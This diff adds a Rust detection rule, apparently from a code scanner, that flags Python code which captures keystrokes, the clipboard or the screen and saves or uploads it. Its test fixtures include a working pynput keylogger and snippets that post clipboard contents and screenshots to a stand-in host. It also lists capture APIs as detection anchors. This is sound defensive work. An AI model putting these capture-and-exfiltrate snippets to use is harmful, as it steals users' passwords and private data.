@@ -1,0 +1,65 @@
+//! Keys, screen or clipboard are recorded and kept or sent.
+
+use crate::fact::{Capture, What};
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "CODE_CAPTURE_KEPT",
+    category: Category::CredentialAccess,
+    severity: Severity::Critical,
+    title: "what a person types or sees is recorded",
+    why: "Whoever records every key gets every password. What is on the screen or the clipboard is no different.",
+    fix: "remove it",
+    places: ANYWHERE,
+    anchors: &[
+        "pynput",
+        "keyboard.",
+        "imagegrab",
+        "pyautogui",
+        "pyperclip",
+        "getasynckeystate",
+        "setwindowshookex",
+        "screencapture",
+    ],
+    check: Check::Unit(check),
+    hits: &[
+        file(
+            "x.py",
+            "from pynput import keyboard\ndef on(key):\n    with open('/tmp/k', 'a') as f:\n        f.write(str(key))\nwith keyboard.Listener(on_press=on) as l:\n    l.join()\n",
+        ),
+        file(
+            "x.py",
+            "import pyperclip, requests\nwhile True:\n    requests.post('https://a.host.test', data=pyperclip.paste())\n",
+        ),
+        file(
+            "x.py",
+            "import pyautogui, requests\ni = pyautogui.screenshot()\nrequests.post('https://a.host.test', files={'f': i})\n",
+        ),
+    ],
+    misses: &[
+        file("x.py", "import pyautogui\npyautogui.screenshot().save('out.png')\n"),
+        file("x.py", "import pyperclip\nprint(pyperclip.paste())\n"),
+        text("Use `keyboard.press_and_release('ctrl+c')` to copy."),
+    ],
+};
+
+fn check(unit: &Unit<'_>) -> Vec<Hit> {
+    let reading = unit.reading();
+    let keeps = reading
+        .facts
+        .iter()
+        .any(|fact| matches!(fact.what, What::Saves(_) | What::Sends { is_upload: true, .. }));
+    let mut hits = Vec::new();
+    for fact in &reading.facts {
+        if fact.what == What::Captures(Capture::Keys) && keeps {
+            hits.push(Hit::at(fact.range.clone()));
+        }
+    }
+    for (source, sink, _) in reading.flowing() {
+        if matches!(source.what, What::Captures(_)) && matches!(sink.what, What::Sends { .. }) {
+            hits.push(Hit::at(sink.range.clone()));
+        }
+    }
+    hits
+}
